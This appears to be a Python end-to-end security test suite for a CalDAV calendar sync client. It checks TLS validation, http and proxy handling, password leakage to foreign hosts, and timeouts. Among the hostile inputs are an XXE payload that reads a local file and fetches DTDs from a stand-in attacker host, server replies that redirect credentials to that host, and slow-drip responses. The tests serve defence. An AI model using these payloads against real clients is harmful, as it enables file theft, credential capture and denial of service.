"""Who is at the other end, and who stands in between: TLS, names, http, proxies, and time."""

import os
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.e2e.trust.conftest import (
    NAME,
    PASSWORD,
    SIGNED,
    WRITES,
    Victim,
    honest,
    message,
    nothing_leaked,
)
from tests.e2e.trust.villain import (
    EVIL,
    EXPIRED,
    GOOD,
    IN_CLEAR,
    OTHER_NAME,
    OWN_CA,
    SISTER,
    Answering,
    Asked,
    Stream,
)
from tests.emulators.dav import Account, Kept
from tests.servers.starting import free_port
from tests.unit.adapters.caldav.conftest import Reply

# Who is at the other end


@pytest.mark.parametrize(
    ("host", "words"),
    [
        (EXPIRED, "certificate that is not valid today"),
        (OTHER_NAME, "certificate for another name"),
        (OWN_CA, "certificate that this machine does not trust"),
    ],
)
def test_a_certificate_that_is_wrong_ends_it_before_anything_is_sent(
    newcomer: Victim, host: str, words: str
) -> None:
    newcomer.configure(url=f"https://{host}/")
    assert words in message(newcomer.does("sync"), 69)
    assert newcomer.villain.asked == []


def test_an_authority_of_ones_own_is_trusted_where_it_is_named(newcomer: Victim) -> None:
    newcomer.account.home_url = f"https://{OWN_CA}/home/"
    shutil.copy(newcomer.villain.own, newcomer.home / "nas.pem")
    newcomer.configure(url=f"https://{OWN_CA}/", more='ca_file = "nas.pem"')
    assert newcomer.does("check").code == 0
    done = newcomer.meets(honest(newcomer.account))
    assert done.code == 0, done.err
    assert newcomer.account.calendar(NAME).events
    # It is trusted instead of this machine's, not beside them.
    newcomer.configure(url=f"https://{GOOD}/", more='ca_file = "nas.pem"')
    assert "does not trust" in message(newcomer.does("calendars"), 69)


@pytest.mark.parametrize(
    ("content", "words"), [(None, "cannot be read"), ("-----BEGIN", "holds no certificate")]
)
def test_a_file_that_is_no_authority_is_found_by_check(
    newcomer: Victim, content: str | None, words: str
) -> None:
    if content is not None:
        (newcomer.home / "nas.pem").write_text(content)
    newcomer.configure(url=f"https://{GOOD}/", more='ca_file = "nas.pem"')
    for command in ("check", "sync"):
        text = message(newcomer.does(command), 78)
        assert "calendar.ca_file" in text
        assert words in text
    assert newcomer.villain.asked == []


def test_http_to_another_machine_needs_a_yes_and_is_warned_of(newcomer: Victim) -> None:
    url = f"http://{IN_CLEAR}:443/"
    newcomer.configure(url=url)
    for command in ("check", "sync"):
        assert "https is needed" in newcomer.does(command).err
    assert newcomer.villain.asked == []
    newcomer.account.home_url = f"{url}home/"
    newcomer.configure(url=url, more="allow_http = true")
    checked = newcomer.does("check")
    assert checked.code == 0
    assert "everybody on the way can read the password" in checked.err
    # Not through a proxy, which would read it too.
    newcomer.environment["HTTP_PROXY"] = f"http://127.0.0.1:{free_port()}/"
    done = newcomer.meets(honest(newcomer.account))
    assert done.code == 0, done.err
    assert newcomer.account.calendar(NAME).events


# Where the password goes


def named(account: Account, *, principal: str = "/principal/", home: str = "/home/") -> Answering:
    """Answer as an account whose server names these places."""
    account.home_url = home
    rightly = honest(account)

    def answer(asked: Asked) -> Reply:
        reply = rightly(asked)
        body = reply.body.replace(
            b"<d:href>/principal/</d:href></d:current-user",
            f"<d:href>{principal}</d:href></d:current-user".encode(),
        )
        return Reply(status=reply.status, body=body, headers=reply.headers)

    return answer


@pytest.mark.parametrize(
    "home",
    [
        f"https://{EVIL}/home/",
        f"//{EVIL}/home/",
        f"http://{GOOD}/home/",
        "http://127.0.0.1:631/",
        f"https://maya:x@{GOOD}/home/",
        "https://[broken/",
        rf"https://{EVIL}\.{GOOD}/home/",
    ],
)
def test_a_home_elsewhere_is_named_and_not_asked(newcomer: Victim, home: str) -> None:
    done = newcomer.meets(named(newcomer.account, home=home))
    text = message(done, 69)
    assert "the password is not sent there" in text
    # To write it into the config is a way out for an address that could be right alone.
    possible = home.startswith((f"https://{EVIL}/", f"//{EVIL}", "https://maya"))
    assert ("write this address into calendar.url" in text) is possible
    nothing_leaked(newcomer.villain)


@pytest.mark.parametrize("principal", [f"https://{EVIL}/me/", "https://[broken/"])
def test_a_principal_elsewhere_is_named_and_not_asked(newcomer: Victim, principal: str) -> None:
    done = newcomer.meets(named(newcomer.account, principal=principal))
    assert "the password is not sent there" in message(done, 69)
    nothing_leaked(newcomer.villain)


def test_a_home_on_another_host_of_the_same_domain_is_used(newcomer: Victim) -> None:
    done = newcomer.meets(named(newcomer.account, home=f"https://{SISTER}/home/"))
    assert done.code == 0, done.err
    assert {asked.host for asked in newcomer.villain.asked} == {GOOD, SISTER}


def test_an_owner_whose_path_turns_into_another_host_is_not_asked(newcomer: Victim) -> None:
    """Decoded, ``/%2Fevil.example.net/`` is an address without its scheme."""
    newcomer.account.calendars[0].owner = f"/@@{EVIL}/"
    rightly = honest(newcomer.account)

    def answer(asked: Asked) -> Reply:
        reply = rightly(asked)
        body = reply.body.replace(b"/%40%40", b"/%2F")
        return Reply(status=reply.status, body=body, headers=reply.headers)

    assert newcomer.meets(answer, "calendars").code == 0
    nothing_leaked(newcomer.villain)


def test_hrefs_outside_the_collection_are_ignored_with_one_warning(victim: Victim) -> None:
    rightly = honest(victim.account)
    strays = "".join(
        f'<d:response><d:href>{href}</d:href><d:propstat><d:prop><d:getetag>"1"</d:getetag>'
        "</d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>"
        for href in (
            "/home/other/lorsync-a.ics",
            "/home/letters/../other/lorsync-b.ics",
            # Taken for what they are here: their hosts get nothing.
            f"https://{EVIL}/home/letters/lorsync-c.ics",
            f"//{EVIL}/home/letters/lorsync-d.ics",
            "https://[broken/home/letters/lorsync-e.ics",
        )
    )

    def answer(asked: Asked) -> Reply:
        reply = rightly(asked)
        body = reply.body.replace(b"</d:multistatus>", f"{strays}</d:multistatus>".encode())
        return Reply(status=reply.status, body=body, headers=reply.headers)

    done = victim.meets(answer)
    assert done.code == 0, done.err
    assert done.out.count("3 events that are not in this calendar") == 1
    nothing_leaked(victim.villain)
    assert all(asked.request.path == "/home/letters/" for asked in victim.villain.asked)
    victim.is_fine()


def test_netrc_is_left_alone_and_a_proxy_is_named(victim: Victim) -> None:
    netrc = victim.home / ".netrc"
    netrc.write_text(f"machine {GOOD} login other password other\n")
    netrc.chmod(0o600)
    assert victim.meets(honest(victim.account)).code == 0
    assert {asked.request.headers["authorization"] for asked in victim.villain.asked} == {SIGNED}
    port = free_port()
    victim.environment["HTTPS_PROXY"] = f"http://maya:{PASSWORD}@127.0.0.1:{port}/"
    checked = victim.does("check")
    assert f"through the proxy 127.0.0.1:{port}/" in checked.err
    assert "through the proxy that HTTPS_PROXY names" in message(victim.does("sync"), 69)
    victim.environment["HTTPS_PROXY"] = f"socks5://maya:{PASSWORD}@127.0.0.1:{port}/"
    assert "through the proxy that HTTPS_PROXY names" in message(victim.does("sync"), 69)
    assert victim.villain.asked == []
    victim.environment.clear()
    victim.is_fine()


# Which calendar


def test_a_calendar_that_is_not_there_is_said_to_be_missing(newcomer: Victim) -> None:
    newcomer.configure(url=f"https://{GOOD}/home/nothing/")
    text = message(newcomer.meets(honest(newcomer.account)), 69)
    assert "/home/nothing/" in text
    assert "calendar.url" in text
    nothing_leaked(newcomer.villain)


def test_two_calendars_of_one_name_are_asked_about(newcomer: Victim) -> None:
    newcomer.account.calendars.append(Kept(path="/home/again/", name=NAME))
    text = message(newcomer.meets(honest(newcomer.account)), 78)
    assert "Two calendars are called" in text
    assert "/home/letters/" in text
    assert "/home/again/" in text
    nothing_leaked(newcomer.villain)


# What reads files, and what never ends


@contextmanager
def watched(file: Path) -> Iterator[Callable[[], bool]]:
    """Make a named pipe, and tell whether anybody has opened it to read."""
    os.mkfifo(file)
    opened = threading.Event()

    def wait() -> None:
        with file.open("wb"):
            opened.set()

    waiting = threading.Thread(target=wait, daemon=True)
    waiting.start()
    yield opened.is_set
    with file.open("rb"):
        waiting.join(120)


@pytest.mark.parametrize("entity", ["&read;", "&ask;", "%all;"])
def test_an_external_entity_is_neither_read_nor_asked_for(victim: Victim, entity: str) -> None:
    pipe = victim.home / "secret"
    declared = (
        f'<!ENTITY read SYSTEM "file://{pipe}"><!ENTITY ask SYSTEM "https://{EVIL}/ask">'
        f'<!ENTITY % all SYSTEM "https://{EVIL}/all.dtd">'
    )
    inside, text = (entity, "") if entity.startswith("%") else ("", entity)
    body = (
        f'<!DOCTYPE d SYSTEM "https://{EVIL}/d.dtd" [{declared}{inside}]>'
        f'<d:multistatus xmlns:d="DAV:"><d:sync-token>{text}</d:sync-token></d:multistatus>'
    )
    reply = Reply(body=body.encode(), headers={"Content-Type": "application/xml"})
    with watched(pipe) as was_read:
        assert "unreadable answer" in message(victim.meets(lambda _: reply), 69)
        assert not was_read()
    nothing_leaked(victim.villain)


def drip(head: bytes, drop: bytes, closing: threading.Event) -> Stream:
    """Send a byte now and then, long before any silence is too long."""

    def write(send: Callable[[bytes], None]) -> None:
        send(head)
        while not closing.wait(0.05):
            send(drop)

    return Stream(write=write)


HEAD = b"HTTP/1.1 207 Multi-Status\r\n"


@pytest.mark.parametrize(
    ("head", "drop"),
    [
        pytest.param(b"", b"H", id="status line"),
        pytest.param(HEAD + b"X-More: ", b"a", id="headers"),
        pytest.param(HEAD + b"Content-Length: 100000\r\n\r\n", b"<", id="body"),
        pytest.param(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n<\r\n", id="chunks"),
        pytest.param(HEAD + b"\r\n", b"<", id="body without a length"),
    ],
)
def test_a_drip_ends_with_the_time_of_one_request(victim: Victim, head: bytes, drop: bytes) -> None:
    victim.limits["request"] = 0.4
    before = victim.ledger()
    answer = drip(head, drop, victim.villain.closing)
    text = message(victim.meets(lambda _: answer), 69)
    assert "did not come to the end of an answer within 0.4 s" in text
    assert victim.ledger() == before


def test_a_handshake_that_does_not_end_is_no_answer(victim: Victim) -> None:
    victim.limits["request"] = 0.4
    victim.villain.held = True
    try:
        assert "within 0.4 s" in message(victim.does("sync"), 69)
    finally:
        victim.villain.held = False
    victim.limits.clear()
    victim.is_fine()


def test_a_pass_ends_though_each_answer_comes_in_time(newcomer: Victim) -> None:
    newcomer.limits["whole"] = 0.5
    rightly, closing = honest(newcomer.account), newcomer.villain.closing

    def slowly(asked: Asked) -> Reply:
        closing.wait(0.1)
        return rightly(asked)

    text = message(newcomer.meets(slowly), 69)
    assert "ended after 0.5 s" in text
    assert "the next pass goes on" in text
    newcomer.limits.clear()
    assert newcomer.meets(honest(newcomer.account)).code == 0
    newcomer.is_fine()


def test_weak_etags_are_warned_of_once_and_the_pass_goes_on(newcomer: Victim) -> None:
    """A proxy that packs answers makes strong ETags weak, and If-Match never matches one."""
    rightly = honest(newcomer.account)

    def answer(asked: Asked) -> Reply:
        reply = rightly(asked)
        body = reply.body.replace(b'getetag>"', b'getetag>W/"')
        headers = {k: f"W/{v}" if k == "ETag" else v for k, v in reply.headers.items()}
        return Reply(status=reply.status, body=body, headers=headers)

    assert newcomer.meets(answer).code == 0
    due = newcomer.config.read_text()
    newcomer.config.write_text(due.replace("2099-09-10", "2099-09-24"))
    done = newcomer.meets(answer)
    assert done.code == 0, done.err
    puts = [asked.request for asked in newcomer.villain.asked if asked.request.method == "PUT"]
    assert puts
    assert not [put for put in puts if "if-match" in put.headers]
    assert (done.out + done.err).count("names no versions of its events") == 1
    newcomer.config.write_text(due)
    assert "names no versions" not in newcomer.meets(answer).out
    assert newcomer.meets(answer).code == 0
    assert not [asked for asked in newcomer.villain.asked if asked.request.method in WRITES]
